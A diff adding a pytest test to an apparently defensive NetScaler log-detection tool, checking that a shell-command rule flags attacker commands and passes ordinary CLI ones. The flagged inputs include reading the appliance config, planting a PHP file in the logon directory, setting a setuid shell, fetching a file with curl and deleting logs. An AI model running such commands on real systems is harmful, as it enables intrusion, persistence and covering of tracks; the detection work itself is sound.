@@ -82,3 +82,28 @@ def test_bad_sigma_files_are_named(tmp_path: Path, text: str, says: str) -> None
     with pytest.raises(GatewayInputError, match=says) as caught:
         load_sigma([path])
     assert "bad.yml" in str(caught.value)
+
+
+@pytest.mark.parametrize(
+    ("command", "flagged"),
+    [
+        ("shell", True),
+        ("shell cat /flash/nsconfig/ns.conf", True),
+        ("bash -i", True),
+        ("sh -c 'id'", True),
+        ("cp /tmp/x.php /var/netscaler/logon/x.php", True),
+        ("chmod 4755 /var/tmp/sh", True),
+        ("curl -o /tmp/a http://198.51.100.9/a", True),
+        ("rm -rf /var/log/ns.log", True),
+        ("sh ns ip", False),  # the CLI's "show"
+        ("show ns ip", False),
+        ("rm lb vserver old_vs", False),  # the CLI's "remove"
+        ("set ns config -IPAddress 10.0.0.1", False),
+    ],
+)
+def test_the_shell_rule_tells_a_shell_from_the_netscaler_cli(command: str, flagged: bool) -> None:
+    line = ns(0, "CLI CMD_EXECUTED", f'User nsroot - Remote_ip 10.0.0.5 - Command "{command}"')
+    event = LineParser().parse(line)
+    assert event is not None
+    hits = [r.id for r in load_rules().lines if r.matches(event)]
+    assert ("cli-shell-command" in hits) is flagged
